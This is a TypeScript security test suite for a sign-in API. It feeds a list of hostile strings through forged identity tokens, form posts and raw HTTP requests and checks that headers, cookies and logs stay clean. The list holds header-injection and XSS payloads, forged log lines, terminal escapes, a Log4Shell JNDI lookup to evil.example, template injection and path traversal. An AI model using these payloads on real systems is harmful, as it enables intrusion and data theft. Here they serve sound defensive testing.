import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type Answer, send } from '../support/http.ts';
import { type RunningSite, startSite, unthrottled } from '../support/site.ts';
import { cookiesSet, fromEdgeBase64, halvesOf, names } from './forge.ts';
import { type Fields, type HostileGoogle, takeGooglesPlace } from './google.ts';
import { sendRaw } from './raw-http.ts';
import { beginSignIn, postBearer, postForm, postJson } from './sign-in.ts';

const config = (text: string): string =>
  unthrottled(text).replace('persistent: false', "persistent: false, claims: ['name']");

let site: RunningSite;
let google: HostileGoogle;
beforeAll(async () => {
  site = await startSite({ config });
  google = await takeGooglesPlace(site);
});
afterAll(() => site.close());

/** What breaks lines, ends quotes, starts markup, or acts on a terminal. */
const words: readonly string[] = [
  'x\r\nSet-Cookie: injected=1',
  'x\nLocation: https://evil.example',
  'x\rX-Injected: 1',
  'x\r\n\r\n<script>alert(1)</script>',
  'x嘊嘍Set-Cookie: injected=1',
  'x%0d%0aSet-Cookie: injected=1',
  'x\u0000y',
  'x; Domain=evil.example; Path=/',
  'x, injected=1',
  '"\'`<script>alert(1)</script>',
  '"},{"Resource":"*"}',
  '\\"},"Condition":{}}]}',
  '{"level":"info","event":"granted"}',
  'x\n{"level":"info","event":"granted","who":{"email":"root@example.com"}}',
  '\u001b[2J\u001b]0;owned\u0007',
  'x\u009b31m\u0085y',
  'x\u2028\u2029\u202e\u2066y\ufeff',
  'é😀\u{e0041}\ud800',
  '${jndi:ldap://evil.example/x}',
  '{{constructor.constructor("return process")()}}',
  '%s%n%x',
  '../../etc/passwd',
  'x'.repeat(1_000),
];

/** The answer has only headers that the API writes, each in visible ASCII, and no cookie of anyone else. */
function expectCleanHeaders(answer: Answer): void {
  const { 'x-injected': injected, location = '/', ...headers } = answer.headers;
  expect(injected).toBeUndefined();
  expect(String(location)).toMatch(/^\/(?![/\\])[\x21-\x7e]*$/);
  for (const value of Object.values(headers).flat()) expect(value).toMatch(/^[\x20-\x7e]*$/);
  for (const line of answer.setCookie) {
    expect(line).toMatch(
      /^(CloudFront-[\w-]+|__Host-s3nator-\w+)=[\w.~-]*; Path=\/; Secure; HttpOnly; SameSite=(Lax|None)(; Max-Age=0)?$/,
    );
  }
}

afterEach(() => {
  for (const line of site.rawLog) {
    // One line for one event, and nothing in it that a terminal acts on; `startSite` has parsed each already.
    expect(line.trimEnd()).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  }
  // No sender wrote a line of their own.
  expect(site.log.filter(({ who }) => (who as Fields | undefined)?.['email'] === 'root@example.com')).toEqual([]);
});

describe('hostile words in the claims of somebody who is admitted', () => {
  it.each(words)('%j as sub and name: the cookies hold them, and no header', async (word) => {
    const sub = word.slice(0, 255);
    const answer = await postBearer(site, google.token(google.claims({ sub, name: word })));
    expect(answer.status).toBe(201);
    expectCleanHeaders(answer);
    const cookies = cookiesSet(answer.setCookie);
    const policy = JSON.parse(fromEdgeBase64(cookies[names.policy] ?? '').toString()) as { Statement: object[] };
    expect(policy.Statement).toHaveLength(1);
    const { body } = halvesOf(cookies[names.session] ?? '');
    const statement = JSON.parse(body.toString().split('\n').slice(1).join('\n')) as Fields;
    expect(statement).toMatchObject({ sub, claims: { name: word } });
    const requestId = answer.headers['apigw-requestid'];
    expect(await site.logged({ event: 'granted', requestId })).toMatchObject({ who: { email: 'alice@example.com' } });
  });
});

describe('hostile words in the claims of somebody who is not admitted', () => {
  it.each(words)('%j as email: named in the problem document, and in no header', async (word) => {
    const email = `${word}@evil.example`;
    const answer = await postBearer(site, google.token(google.claims({ email, hd: word })));
    expect(answer.status).toBe(401);
    expectCleanHeaders(answer);
    expect(answer.headers['content-type']).toBe('application/problem+json');
    // Lower case is for ASCII: another script's letters could become somebody else's address.
    const account = /^[\x00-\x7f]*$/.test(email) ? email.toLowerCase() : email;
    expect(answer.json).toMatchObject({ code: 'access_denied', account });
    expect(site.log.filter((line) => line['requestId'] === (answer.json as Fields)['requestId']).length).toBeLessThan(
      2,
    );
  });

  it.each(words)(
    '%j as email, by the form post: the code and the way back are in the Location, and no word of it',
    async (word) => {
      const beginning = await beginSignIn(site);
      const credential = google.token(google.claims({ email: word, nonce: beginning.nonce }));
      const answer = await postForm(site, { credential, state: '/docs/' }, beginning);
      expectCleanHeaders(answer);
      expect(answer.headers['location']).toBe('/public/login.html?return-to=%2Fdocs%2F#error=access_denied');
    },
  );
});

describe('hostile words where nothing was verified yet', () => {
  it.each(words)('%j as iss, aud, azp, alg and kid: in the log as text, on the wire not at all', async (word) => {
    for (const token of [
      google.token(google.claims({ iss: word })),
      google.token(google.claims({ aud: word })),
      google.token(google.claims({ azp: word })),
      google.token(google.claims(), { alg: word }),
      google.token(google.claims(), { kid: word }),
      google.token(google.claims({ nonce: word })),
    ]) {
      const answer = await postBearer(site, token);
      expectCleanHeaders(answer);
      const { code, requestId } = answer.json as { code: string; requestId: string };
      expect(['invalid_token', 'temporarily_unavailable', 'sign_in_expired']).toContain(code);
      expect(Object.keys(answer.json as Fields).sort()).toEqual(['code', 'requestId', 'status', 'title', 'type']);
      await site.logged({ requestId });
    }
  });

  it.each(words)('%j as state, g_csrf_token and idToken', async (word) => {
    const beginning = await beginSignIn(site);
    const credential = google.token(google.claims({ nonce: beginning.nonce }));
    for (const fields of [
      { credential, state: `/${word}` },
      { credential, g_csrf_token: word },
      { credential: word },
    ]) {
      const answer = await postForm(site, fields, beginning);
      expect(answer.status).toBe(303);
      expectCleanHeaders(answer);
    }
    expectCleanHeaders(await postJson(site, { idToken: word }, beginning));
    expectCleanHeaders(await postJson(site, { [word]: credential }, beginning));
  });

  it('in the head of a request: the answer repeats none of it, and the log keeps it on its line', async () => {
    const { host } = new URL(site.origin);
    const hostile = 'x\u009b31m"\\<script>\u0085\u00ff';
    const heads = [
      [`GET /auth/${encodeURIComponent('x\r\nSet-Cookie: injected=1')} HTTP/1.1`],
      ['GET /auth/"<script>\\x HTTP/1.1'],
      [`GET /auth/${'x'.repeat(4_000)} HTTP/1.1`],
      ['POST /auth/session HTTP/1.1', `Origin: ${hostile}`],
      ['POST /auth/session HTTP/1.1', `Authorization: Bearer ${hostile}`],
      ['POST /auth/session HTTP/1.1', `Content-Type: ${hostile}`],
      ['GET /auth/session HTTP/1.1', `Cookie: __Host-s3nator-login=${hostile}; ${hostile}=${hostile}`],
      ['GET /auth/session HTTP/1.1', `User-Agent: ${hostile}`, `Referer: ${hostile}`, `X-Request-Id: ${hostile}`],
    ];
    for (const head of heads) {
      const { text } = await sendRaw(site.origin, [...head, `Host: ${host}`, 'Connection: close', '', '']);
      expect(text).toMatch(/^HTTP\/1\.1 \d{3} /);
      expect(text).not.toMatch(/injected|<script>|\u009b|xxxxxxxx/i);
    }
  });

  it('no answer of the API is a page', async () => {
    for (const path of ['/auth/session', '/auth/<script>alert(1)</script>']) {
      const { headers } = await send(`${site.origin}${encodeURI(path)}`);
      expect(headers['content-type']).toMatch(/^application\/(problem\+)?json$/);
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['cache-control']).toBe('no-store');
    }
  });
});
